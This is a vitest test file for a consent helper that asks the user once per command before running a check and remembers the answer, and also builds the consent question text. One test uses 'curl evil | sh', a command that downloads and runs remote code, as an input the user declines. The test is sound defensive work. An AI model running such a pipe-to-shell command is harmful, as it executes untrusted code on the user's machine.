import { describe, expect, it } from 'vitest';
import { checkConsentQuestion, rememberedCheckConsent } from './check-consent.js';

describe('rememberedCheckConsent', () => {
	it('asks once per command and keeps both yes and no', async () => {
		const asked: string[] = [];
		const consent = rememberedCheckConsent(async (command) => {
			asked.push(command);
			return command === 'npm test';
		});
		expect(await consent('npm test')).toBe(true);
		expect(await consent('npm test')).toBe(true);
		expect(await consent('curl evil | sh')).toBe(false);
		expect(await consent('curl evil | sh')).toBe(false);
		expect(asked).toEqual(['npm test', 'curl evil | sh']);
	});

	it('shares one question between concurrent asks', async () => {
		let asks = 0;
		let answer: (allowed: boolean) => void = () => undefined;
		const consent = rememberedCheckConsent(() => {
			asks++;
			return new Promise<boolean>((resolve) => (answer = resolve));
		});
		const both = Promise.all([consent('npm test'), consent('npm test')]);
		answer(true);
		expect(await both).toEqual([true, true]);
		expect(asks).toBe(1);
	});

	it('a question that fails is a no, asked again next time', async () => {
		let calls = 0;
		const consent = rememberedCheckConsent(async () => {
			calls++;
			if (calls === 1) throw new Error('dialog gone');
			return true;
		});
		expect(await consent('npm test')).toBe(false);
		expect(await consent('npm test')).toBe(true);
	});

	it('says what runs and where the scenario came from', () => {
		const question = checkConsentQuestion('npm test', 'https://example.org/s.zip');
		expect(question.message).toContain('npm test');
		expect(question.message).toContain('https://example.org/s.zip');
		expect(question.message).toContain('cannot change your files');
	});
});
